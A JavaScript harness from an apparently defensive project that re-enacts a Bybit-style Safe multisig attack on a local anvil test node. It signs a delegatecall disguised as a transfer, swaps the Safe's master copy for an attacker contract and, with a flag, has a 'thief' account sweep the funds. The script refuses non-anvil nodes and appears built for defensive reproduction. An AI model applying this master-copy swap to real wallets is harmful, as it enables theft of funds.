// Cordon — crypto-heist defence.  SPDX-License-Identifier: Apache-2.0
// Bybit's moment, again on a test node (README.md): real Safes, a payload that looks like a transfer, another master copy.
// Prints a JSON line a step. Writes only to a node that says that it is anvil.
import { Wallet, concat, hexlify, keccak256, toBeHex, toUtf8Bytes } from "ethers";
import { connect } from "./node.mjs";
import { World, ZERO, GAS } from "./world.mjs";

const DELEGATE = 1;
const [url, ...rest] = process.argv.slice(2);
const versions = rest.filter((each) => !each.startsWith("--"));
const call = connect(url);
if (!/^anvil\//.test(await call("web3_clientVersion"))) throw new Error("swap: this is not a test node");
const say = (step, facts) => console.log(JSON.stringify({ step, ...facts }));

const signers = [0, 1, 2, 3].map((n) => new Wallet(keccak256(toUtf8Bytes(`cordon anvil ${n}`))));
const thief = "0x00000000000000000000000000000000c0ffee01";
for (const each of [signers[3].address, thief]) {
  await call("anvil_impersonateAccount", each);
  await call("anvil_setBalance", each, toBeHex(10n ** 24n));
}
const world = new World(call, signers);
await world.setup();
const code = await world.create(world.own.Sweep.bytecode);
const safes = world.safes.filter((each) => !versions.length || versions.includes(each.version));
say("safes", { safes: safes.map(({ version, address, owners, singleton }) => ({ version, address, owners, singleton })) });

for (const safe of safes) {
  const nonce = (await world.view(safe.address, safe.contract, "nonce"))[0];
  const data = world.interfaces.Swap.encodeFunctionData("transfer", [code, 0n]);
  const fields = [world.swap, 0n, data, DELEGATE, 0n, 0n, 0n, ZERO, ZERO];
  const hash = (await world.view(safe.address, safe.contract, "getTransactionHash", ...fields, nonce))[0];
  const signatures = concat(signers.slice(0, 2).sort((a, b) => (BigInt(a.address) < BigInt(b.address) ? -1 : 1)).map((each) => each.signingKey.sign(hash).serialized));
  const receipt = await world.send(safe.address, safe.contract.encodeFunctionData("execTransaction", [...fields, signatures]));
  const facts = { version: safe.version, safe: safe.address, txn: receipt.transactionHash, block: Number(receipt.blockNumber) };
  const first = await call("eth_getStorageAt", safe.address, "0x0", "latest");
  say("swap", { ...facts, masterCopy: hexlify(`0x${first.slice(-40)}`), before: safe.singleton.toLowerCase() });
  if (!rest.includes("--sweep")) continue;
  const taken = await world.receipt(await call("eth_sendTransaction", { from: thief, to: safe.address, data: "0x", gas: GAS }));
  say("sweep", { ...facts, txn: taken.transactionHash, block: Number(taken.blockNumber), left: BigInt(await call("eth_getBalance", safe.address, "latest")).toString() });
}
